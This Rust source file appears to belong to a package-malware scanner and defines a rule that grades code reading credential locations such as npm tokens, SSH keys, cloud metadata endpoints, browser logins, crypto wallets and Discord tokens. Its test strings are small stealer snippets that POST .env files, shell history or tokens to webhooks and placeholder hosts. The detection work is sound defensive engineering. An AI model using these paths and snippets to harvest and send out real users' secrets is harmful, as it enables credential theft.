//! `credential-files`: paths, endpoints and commands where developer and user secrets live.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::env_harvest::exfil_target;
use super::signals;
use super::sinks::{self, CredentialKind};
use super::{FileRule, RuleInfo};
use crate::facts::FileFacts;

pub struct CredentialFiles;

static INFO: RuleInfo = RuleInfo {
    id: "credential-files",
    severity: Severity::High,
    confidence: Confidence::Medium,
    capabilities: &[Capability::Credentials, Capability::Filesystem],
    summary:
        "Reads where secrets live: ~/.npmrc, ~/.ssh, cloud credentials, browser and wallet profiles, metadata endpoints",
    docs: r#"## What it detects

Strings (after constant folding, so `path.join(os.homedir(), '.npmrc')` reads `~/.npmrc`) and
commands that name where secrets live:

- developer tokens: `~/.npmrc` (or the token itself through `npm config get
  //registry.npmjs.org/:_authToken`), `~/.ssh/*`, `~/.aws/credentials`, `~/.config/gh/hosts.yml`,
  `.git-credentials`, `gh auth token`;
- cloud and container credentials: `~/.docker/config.json`, `~/.kube/config`, gcloud
  `credentials.db`/`application_default_credentials.json`, the instance metadata endpoints
  `169.254.169.254`, `169.254.170.2`, `metadata.google.internal`;
- browser profiles: Chrome/Brave/Edge `Login Data`, `Local State`, `Cookies`, Firefox
  `logins.json`, `key4.db`;
- crypto wallets: extension ids (MetaMask `nkbihfbeogaeaoehlefnkodbefgpgknn`, Phantom, Coinbase,
  TronLink, Binance, Trust, Rabby, Keplr), Exodus, Electrum, Atomic, Ethereum keystores,
  `solana/id.json`, `wallet.dat`;
- app sessions: Discord's token store (`discord/Local Storage/leveldb`, also the Canary, PTB and
  Lightcord builds; any Chromium or Electron app's `Local Storage/leveldb`, where web sessions
  live) and Telegram Desktop's `tdata` directory;
- secret scanners downloaded or run: trufflehog, gitleaks;
- shell history: `~/.bash_history`, `~/.zsh_history`, PowerShell's `ConsoleHost_history.txt`
  (tokens pasted into commands end up there).

Graded by breadth and by what else the file does: one developer-token location is moderate (tools
like registry-auth-token read `~/.npmrc`); browser or wallet data, an app session store,
`gh auth token` or a secret scanner is high; two locations are high; three, or two next to a
network call or process execution, or any next to a raw IP or an exfiltration service, are
critical. Cloud SDK locations
(docker, kube, gcloud, metadata) are low on their own. A developer-token read (not AWS credentials,
which SDKs sign requests with) in a small hand-written file that also makes a network request
carries the network capability, so the score combines the two (a
request to the registry alone does not make a package malicious; a token read, a request and an
install hook running that file together do).

## Real attacks

- Shai-Hulud (2025): downloaded and ran TruffleHog over the home directory, read `~/.npmrc`,
  ran `gh auth token`, queried AWS/GCP metadata endpoints for cloud credentials.
- nx s1ngularity (August 2025): searched for wallet files, `.env`, SSH keys and `~/.npmrc`, and
  ran `gh auth token` before uploading everything to a new GitHub repository.
- The "Lazarus"/BeaverTail stealers in fake job-interview packages (2023–2025): Chrome and Brave
  `Login Data`/`Local State`, MetaMask and Phantom extension directories, Exodus and Solana
  `id.json`.
- Discord token grabbers on npm (2021 onwards, e.g. the `discord.dll` and `colors`-typosquat
  waves): read `%APPDATA%/discord/Local Storage/leveldb/*.ldb`, matched tokens with a regular
  expression and posted them to a Discord webhook.
- eslint-scope 3.7.2 (2018): sent the user's `~/.npmrc` token to a remote server.
- Project `.env` files (`.env`, `.env.local`, `.env.production`) read by install scripts and
  posted to webhooks: weak alone (configuration loaders read them), moderate next to a network
  request in a small file, critical when sent to an exfiltration service.

## Known false positives

npm configuration libraries read `~/.npmrc` (moderate), cloud SDKs read their own credential
files and metadata endpoints (low), SSH clients read `~/.ssh/config`. A bare `.npmrc` without a
home path (ignore lists, packlists) is not reported.
"#,
};

/// A small hand-written file that makes a network request.
fn sends_any(file: &FileFacts) -> bool {
    sinks::is_small_handwritten(file) && file.calls.iter().any(sinks::is_network_call)
}

impl FileRule for CredentialFiles {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
        let mut kinds: Vec<(CredentialKind, u32, String)> = Vec::new();
        for (text, _, line) in sinks::credential_texts(file) {
            for kind in sinks::credential_kinds(text) {
                if !kinds.iter().any(|(k, _, _)| *k == kind) {
                    kinds.push((kind, line, text.to_string()));
                }
            }
        }
        // An extension id alone counts only in a file that reaches into browser extension
        // storage (`Local Extension Settings`, IndexedDB): wallet SDKs and connectors name
        // MetaMask's id to open or talk to it.
        if kinds
            .iter()
            .any(|(k, _, text)| *k == CredentialKind::Wallet && sinks::wallet_extension_id_only(text))
        {
            let storage = file.text.as_deref().is_some_and(|t| {
                signals::contains_any_ignore_ascii_case(
                    t,
                    &["extension settings", "indexeddb", "/extensions/", "\\extensions\\"],
                )
            });
            if !storage {
                kinds.retain(|(k, _, text)| *k != CredentialKind::Wallet || !sinks::wallet_extension_id_only(text));
            }
        }
        if kinds.is_empty() {
            return;
        }
        kinds.sort_by_key(|(kind, _, _)| *kind);
        let strong: Vec<_> = kinds.iter().filter(|(k, _, _)| !k.is_weak()).collect();
        let acts = sinks::has_network(file) || file.calls.iter().any(sinks::is_exec_call);
        let exfil = exfil_target(file);
        // A request made from the same small hand-written file: the read and a way out, which
        // the score combines. Not in bundles (a network call and a read far apart mean little),
        // and not for AWS credentials, which every AWS SDK client reads and signs requests with.
        let sends = sinks::is_small_handwritten(file)
            && kinds
                .iter()
                .any(|(k, _, _)| !k.is_weak() && *k != CredentialKind::AwsCredentials)
            && file.calls.iter().any(sinks::is_network_call);
        let alarming = |k: CredentialKind| {
            matches!(
                k,
                CredentialKind::Browser
                    | CredentialKind::Wallet
                    | CredentialKind::GhAuthToken
                    | CredentialKind::SecretScanner
                    | CredentialKind::ChatSession
            )
        };

        let dotenv = kinds.iter().any(|(k, _, _)| *k == CredentialKind::DotEnv);
        // Configuration loaders (dotenv, vite, webpack) read `.env` all the time: alone it is
        // worth a finding only next to a request.
        if kinds.iter().all(|(k, _, _)| *k == CredentialKind::DotEnv) && exfil.is_none() && !sends_any(file) {
            return;
        }
        let severity = if (!strong.is_empty() || dotenv) && exfil.is_some()
            || strong.len() >= 3
            || (strong.len() >= 2 && acts)
            || kinds.len() >= 4
        {
            Severity::Critical
        } else if strong.len() >= 2 || strong.iter().any(|(k, _, _)| alarming(*k)) {
            Severity::High
        } else if !strong.is_empty() || (dotenv && sends_any(file)) {
            Severity::Moderate
        } else {
            Severity::Low
        };
        let confidence = if severity >= Severity::High {
            Confidence::High
        } else if strong.is_empty() && dotenv {
            // Deploy and upload tools read `.env` to leave it out: a lead, not a combination.
            Confidence::Low
        } else {
            Confidence::Medium
        };
        let labels = kinds.iter().map(|(k, _, _)| k.label()).collect::<Vec<_>>().join(", ");
        let mut message = format!("Reads {labels}");
        if let Some(target) = exfil.as_deref() {
            message.push_str(&format!(" in a file that sends to {target}"));
        } else if severity == Severity::Critical && acts {
            message.push_str(" in a file that talks to the network or runs commands");
        } else if (sends && !strong.is_empty()) || (dotenv && sends_any(file)) {
            message.push_str(" in a file that also makes network requests");
        }
        let (_, line, evidence) = strong.first().copied().unwrap_or(&kinds[0]);
        // The line when it shows the path; the folded string when the path was built.
        let evidence = match file.line_text(*line) {
            Some(text) if text.contains(evidence.as_str()) => text,
            _ => evidence.clone(),
        };
        let mut finding = sinks::finding(&INFO, file, *line, severity, confidence, message, Some(&evidence));
        if sends && !strong.is_empty() && !finding.capabilities.contains(&Capability::Network) {
            finding.capabilities.push(Capability::Network);
        }
        out.push(finding);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts;

    fn run(source: &str) -> Vec<Finding> {
        let file = facts::extract("index.js", source.as_bytes(), 0o644);
        let mut out = Vec::new();
        CredentialFiles.check(&file, &mut out);
        out
    }

    fn worst(source: &str) -> Severity {
        run(source)
            .iter()
            .map(|f| f.severity)
            .max()
            .unwrap_or(Severity::Unknown)
    }

    #[test]
    fn dotenv_files_sent_to_a_webhook_are_critical_and_loaders_quiet() {
        let exfil = "const fs = require('fs'), path = require('path');\nlet data = '';\nfor (const f of ['.env', '.env.local']) { try { data += fs.readFileSync(path.join(process.cwd(), f), 'utf8'); } catch (e) {} }\nfetch('https://hooks.slack.com/services/T01ABCDEF/B02GHIJKL/abcdefghijklmnopqrstuvwx', { method: 'POST', body: data });";
        assert_eq!(worst(exfil), Severity::Critical, "{:#?}", run(exfil));
        // dotenv-style loaders read `.env` and make no request.
        let loader = "const fs = require('fs'), path = require('path');\nconst text = fs.readFileSync(path.resolve(process.cwd(), '.env'), 'utf8');\nfor (const line of text.split('\\n')) { const [k, v] = line.split('='); process.env[k] = v; }";
        assert!(run(loader).is_empty(), "{:#?}", run(loader));
        // `.envrc`, `process.env` and `.env.example` are not secrets files.
        assert!(run("module.exports = ['.envrc', '.env.example', 'process.env'];").is_empty());
    }

    #[test]
    fn wallet_extension_ids_count_only_next_to_extension_storage() {
        let sdk = "const METAMASK_ID = 'nkbihfbeogaeaoehlefnkodbefgpgknn';\nmodule.exports = () => chrome.runtime.connect(METAMASK_ID);";
        assert!(run(sdk).is_empty(), "{:#?}", run(sdk));
        let stealer = "const path = require('path');\nconst ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];\nconst dirs = ids.map((id) => path.join(profile, 'Local Extension Settings', id));";
        assert!(worst(stealer) >= Severity::High, "{:#?}", run(stealer));
    }

    #[test]
    fn ignore_lists_are_quiet() {
        assert!(run("module.exports = ['.npmrc', '.DS_Store', 'node_modules'];").is_empty());
    }

    #[test]
    fn npmrc_in_home_alone_is_moderate() {
        let source = "const os = require('os');\nconst path = require('path');\nconst fs = require('fs');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');";
        let findings = run(source);
        assert_eq!(findings.len(), 1, "{findings:?}");
        assert_eq!(findings[0].severity, Severity::Moderate);
        assert_eq!(findings[0].line, Some(4));
    }

    #[test]
    fn npm_token_through_npm_config_is_an_npmrc_read() {
        let source = "const { execSync } = require('child_process');\nconst t = execSync('npm config get //registry.npmjs.org/:_authToken').toString();";
        let findings = run(source);
        assert_eq!(findings.len(), 1, "{findings:?}");
        assert!(findings[0].message.contains("npm tokens"), "{}", findings[0].message);
        // Other settings, and the key named in a config library, are not.
        assert!(run("require('child_process').execSync('npm config get prefix');").is_empty());
        assert!(run("const KEY = '//registry.npmjs.org/:_authToken';\nmodule.exports = (rc) => rc[KEY];").is_empty());
    }

    #[test]
    fn a_token_read_next_to_a_request_carries_the_network_capability() {
        let source = "const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nrequire('https').request({ host: 'stats.example.com', method: 'POST' }).end(t);";
        let findings = run(source);
        assert_eq!(findings.len(), 1, "{findings:?}");
        assert!(findings[0].capabilities.contains(&Capability::Network), "{findings:?}");
        assert!(
            findings[0].message.contains("network requests"),
            "{}",
            findings[0].message
        );
        // Without a request in the file, the read is just a read.
        let quiet = run("const t = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');");
        assert!(!quiet[0].capabilities.contains(&Capability::Network), "{quiet:?}");
        // AWS SDK clients read ~/.aws/credentials and sign requests with them.
        let sdk = run("const p = require('os').homedir() + '/.aws/credentials';\nconst c = require('fs').readFileSync(p, 'utf8');\nrequire('https').request({ host: 'sts.amazonaws.com' }).end();");
        assert!(!sdk[0].capabilities.contains(&Capability::Network), "{sdk:?}");
    }

    #[test]
    fn shell_history_sent_to_a_request_bin_is_critical() {
        let source = "const fs = require('fs');\nconst h = fs.readFileSync(require('os').homedir() + '/.bash_history', 'utf8');\nrequire('https').request({ hostname: 'eo1k2j3h4.x.pipedream.net', method: 'POST' }).end(h);";
        assert_eq!(worst(source), Severity::Critical, "{:?}", run(source));
        assert!(run(source)[0].message.contains("shell history"));
        // The REPL's own history file is not the shell's.
        assert!(run("const p = require('path').join(require('os').homedir(), '.node_repl_history');").is_empty());
    }

    #[test]
    fn cloud_metadata_alone_is_low() {
        assert_eq!(
            worst("const HOST = 'http://169.254.169.254/latest/meta-data/';\nmodule.exports = HOST;"),
            Severity::Low
        );
    }

    #[test]
    fn wallet_extension_dir_is_high() {
        let source = "const p = require('path').join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn');";
        assert!(worst(source) >= Severity::High);
    }

    #[test]
    fn discord_token_store_is_high() {
        // Built with path.join from pieces, as token grabbers do; Windows separators too.
        let joined = "const path = require('path'), fs = require('fs');\nconst dir = path.join(process.env.APPDATA, 'discordcanary', 'Local Storage', 'leveldb');\nfs.readdirSync(dir);";
        assert!(worst(joined) >= Severity::High, "{:?}", run(joined));
        let windows = "const dir = process.env.APPDATA + '\\\\Discord\\\\Local Storage\\\\leveldb';\nrequire('fs').readdirSync(dir);";
        assert!(worst(windows) >= Severity::High, "{:?}", run(windows));
        let telegram = "const tdata = require('path').join(process.env.APPDATA, 'Telegram Desktop', 'tdata');";
        assert!(worst(telegram) >= Severity::High, "{:?}", run(telegram));
        // The store reached through a list of client names: the known tail is joined.
        let listed = "const path = require('path');\nconst dirs = ['discord', 'discordptb'].map((c) => path.join(process.env.APPDATA, c, 'Local Storage', 'leveldb'));";
        assert!(worst(listed) >= Severity::High, "{:?}", run(listed));
        // The chat client library itself names neither store.
        assert!(run("module.exports = { api: 'https://discord.com/api/v10', storage: 'local storage' };").is_empty());
    }

    #[test]
    fn several_token_files_with_network_are_critical() {
        let source = "const os = require('os'), fs = require('fs'), https = require('https');\nconst h = os.homedir();\nconst files = [h + '/.npmrc', h + '/.ssh/id_rsa', h + '/.aws/credentials'];\nhttps.request({ hostname: 'collect.example.invalid', method: 'POST' });";
        assert_eq!(worst(source), Severity::Critical);
    }

    #[test]
    fn gh_auth_token_is_high() {
        assert_eq!(
            worst("const { execSync } = require('child_process');\nconst t = execSync('gh auth token').toString();"),
            Severity::High
        );
    }
}
